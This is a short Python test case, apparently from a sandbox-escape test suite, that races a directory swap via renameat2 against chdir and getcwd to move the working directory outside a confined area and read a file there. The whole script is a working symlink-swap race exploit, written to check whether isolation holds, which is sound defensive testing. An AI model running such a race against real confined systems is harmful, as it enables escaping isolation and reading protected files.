# SPDX-License-Identifier: Apache-2.0
# attack: the working directory is changed to one that another thread exchanges with a link that leads out
# class: own
# wins: leak
# needs: write race
from kit import *

W = F['work']
E = os.fsencode
tried()
swap, link = E(W + '/swap'), E(W + '/out')
end = loop_thread(lambda: sc('renameat2', AT_FDCWD, swap, AT_FDCWD, link, 2))
buf = ctypes.create_string_buffer(4096)


def one(i):
    sc('chdir', swap)
    n = sc('getcwd', buf, 4096)
    if n > 0 and buf.value == E(OUT):
        say('SECRET' if NATIVE else 'cwd is outside')
        effect('the working directory is outside')
    done = took(openat('twin.txt'))
    sc('chdir', E(W))
    return done


rounds(one)
end()
